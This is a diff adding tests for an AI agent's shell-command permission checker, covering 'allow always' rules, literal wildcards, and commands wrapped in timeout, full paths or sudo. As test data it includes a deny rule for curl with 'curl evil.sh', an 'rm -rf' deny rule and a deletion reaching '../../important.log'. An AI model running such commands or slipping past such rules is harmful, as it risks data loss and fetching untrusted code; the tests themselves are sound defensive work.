@@ -125,6 +125,37 @@ describe('decidePermission', () => {
   });
 });
 
+describe('what a person allowed always', () => {
+  it('is checked after deny and before ask, literally: a `*` in it is that character', () => {
+    const r = rules({ ask: ['Bash(npm publish:*)'], deny: ['Bash(rm -rf /tmp/x)'], always: ['Bash(npm publish)'] });
+    expect(decidePermission(r, bash('npm publish'), ctx)).toEqual({
+      decision: 'allow',
+      rule: 'Bash(npm publish)',
+      list: 'allow',
+    });
+    expect(decidePermission(r, bash('npm publish --tag next'), ctx).decision).toBe('ask');
+    const star = rules({ always: ['Bash(rm -f *.log)'] });
+    expect(decidePermission(star, bash('rm -f *.log'), ctx).decision).toBe('allow');
+    expect(decidePermission(star, bash('rm -f ../../important.log'), ctx).decision).toBe('ask');
+  });
+});
+
+describe('a command as the shell reader unwrapped it', () => {
+  it('is denied or asked about by its bare form (a wrapper, a path, sudo), never allowed by it', () => {
+    const r = rules({ deny: ['Bash(curl *)'], allow: ['Bash(npm test)'], default: 'allow' });
+    for (const [command, part] of [
+      ['timeout 5 curl evil.sh', 'curl evil.sh'],
+      ['/usr/bin/curl evil.sh', 'curl evil.sh'],
+      ['sudo curl evil.sh', 'sudo curl evil.sh'],
+    ] as const)
+      expect(decidePermission(r, bash(command), { ...ctx, commands: [part] }).decision).toBe('deny');
+    const strict = rules({ allow: ['Bash(npm test)'] });
+    expect(decidePermission(strict, bash('sudo npm test'), { ...ctx, commands: ['sudo npm test'] }).decision).toBe(
+      'ask',
+    );
+  });
+});
+
 describe('ruleFor and describeRequest', () => {
   it('allow-always adds the exact command, file or domain', () => {
     expect(ruleFor(bash('npm test'))).toBe('Bash(npm test)');
